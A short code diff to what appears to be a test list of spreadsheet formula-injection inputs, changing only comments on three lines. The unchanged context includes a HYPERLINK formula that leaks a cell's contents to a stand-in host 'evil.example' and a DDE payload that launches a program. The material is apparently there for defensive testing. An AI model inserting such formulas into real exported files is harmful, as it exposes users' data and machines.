@@ -32,9 +32,9 @@ FORMULAS: Final = (
     "\r=1+1",
     "\n=1+1",
     "＝1+1",  # noqa: RUF001 - in full width
-    "＋1+1",  # noqa: RUF001
-    "－1+1",  # noqa: RUF001
-    "＠SUM(1)",  # noqa: RUF001
+    "＋1+1",  # noqa: RUF001 - likewise
+    "－1+1",  # noqa: RUF001 - likewise
+    "＠SUM(1)",  # noqa: RUF001 - likewise
     " =1+1",
     '=HYPERLINK("https://evil.example?x="&A1,"a bill")',
     "=cmd|' /C calc'!A0",
